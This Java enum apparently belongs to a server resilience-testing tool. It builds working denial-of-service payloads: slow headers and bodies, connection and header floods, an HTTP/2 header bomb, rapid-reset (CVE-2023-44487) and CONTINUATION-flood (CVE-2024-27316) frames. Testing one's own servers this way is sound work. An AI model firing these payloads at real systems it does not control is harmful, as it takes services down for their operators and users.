package io.github.performancestarter.attack;

import java.util.Locale;
import java.util.function.Function;
import java.util.stream.IntStream;

/**
 * The attacks there are.
 */
public enum AttackKind {

	/** Heads that never end, a byte at a time. */
	SLOW_HEADS((paths) -> Script.drip(200, "GET " + paths.fast() + " HTTP/1.1\r\nHost: a\r\nX-Slow: ", "x")),

	/** Bodies that do not go on. */
	SLOW_BODIES((paths) -> Script.once(200, post(paths) + "Content-Length: 1000\r\n\r\nabc", true)),

	/** Fast requests without end whose answers are never read. */
	UNREAD_FAST_ANSWERS((paths) -> Script.flood(20, "", get(paths.fast()).repeat(100), false)),

	/** Large answers that are never read. */
	UNREAD_LARGE_ANSWERS((paths) -> Script.flood(50, "", get(paths.large()), false)),

	/** Streams of HTTP/2 with large answers for which no window is opened. */
	SHUT_WINDOWS((paths) -> Script.once(20, streams(paths), true)),

	/** Connections that say nothing. */
	IDLE_CONNECTIONS((paths) -> Script.once(1000, "", true)),

	/** A header of 64 KB. */
	LARGE_HEADER((paths) -> Script.once(50,
			"GET " + paths.fast() + " HTTP/1.1\r\nHost: a\r\nX-Large: " + "x".repeat(64 * 1024) + "\r\n\r\n", true)),

	/** 10,000 headers. */
	MANY_HEADERS((paths) -> Script.once(50,
			"GET " + paths.fast() + " HTTP/1.1\r\nHost: a\r\n" + "X-Many: x\r\n".repeat(10_000) + "\r\n", true)),

	/** Heads of HTTP/2 that are large when they are unpacked. */
	HEADER_BOMB((paths) -> Script.once(50, FrameBytes.join(FrameBytes.preface(), FrameBytes.bomb(1, 5000)), true)),

	/** Streams of HTTP/2 that are opened and reset at once (CVE-2023-44487). */
	RAPID_RESETS((paths) -> Script.once(50, FrameBytes.join(FrameBytes.preface(), resets(paths)), true)),

	/** A head of HTTP/2 that never ends (CVE-2024-27316). */
	CONTINUATIONS((paths) -> Script.flood(20, FrameBytes.join(FrameBytes.preface(), FrameBytes.begin(1, paths.fast())),
			FrameBytes.repeat(500, FrameBytes.frame(FrameBytes.CONTINUATION, 0, 1, (byte) 0)), true)),

	/** Bodies without end. */
	ENDLESS_BODIES((paths) -> Script.flood(20, post(paths) + "Transfer-Encoding: chunked\r\n\r\n",
			"4000\r\n" + "x".repeat(0x4000) + "\r\n", true)),

	/** Requests that take their time, pipelined without end. */
	ENDLESS_PIPELINES((paths) -> Script.flood(20, "", get(paths.slow()).repeat(100), true)),

	/** More connections than there may be, each with a request. */
	MANY_CONNECTIONS((paths) -> Script.once(500, get(paths.fast()), true));

	/** More than may be reset in half a minute. */
	private static final int RESETS = 1000;

	private static final int STREAMS = 10;

	@SuppressWarnings("ImmutableEnumChecker") // a lambda without state
	private final Function<Paths, Script> script;

	AttackKind(Function<Paths, Script> script) {
		this.script = script;
	}

	/**
	 * Returns what each connection does.
	 * @param paths what the server has
	 * @return the script
	 */
	public Script script(Paths paths) {
		return this.script.apply(paths);
	}

	/**
	 * Returns the name.
	 * @return words in lower case with dashes
	 */
	public String word() {
		return name().toLowerCase(Locale.ROOT).replace('_', '-');
	}

	private static String get(String path) {
		return "GET " + path + " HTTP/1.1\r\nHost: a\r\n\r\n";
	}

	private static String post(Paths paths) {
		return "POST " + paths.post() + " HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n";
	}

	private static byte[] streams(Paths paths) {
		byte[][] streams = IntStream.range(0, STREAMS)
			.mapToObj((i) -> FrameBytes.get(2 * i + 1, paths.large()))
			.toArray(byte[][]::new);
		return FrameBytes.join(FrameBytes.preface(FrameBytes.INITIAL_WINDOW_SIZE, 0), FrameBytes.join(streams));
	}

	private static byte[] resets(Paths paths) {
		byte[][] resets = IntStream.range(0, RESETS)
			.mapToObj((i) -> FrameBytes.join(FrameBytes.get(2 * i + 1, paths.slow()), FrameBytes.reset(2 * i + 1)))
			.toArray(byte[][]::new);
		return FrameBytes.join(resets);
	}

	/**
	 * What the server has.
	 *
	 * @param fast a fast route
	 * @param large a path whose answers are large, such as 30 KB
	 * @param slow a path whose answer takes its time
	 * @param post a path that reads the body of a POST
	 */
	public record Paths(String fast, String large, String slow, String post) {
	}

}
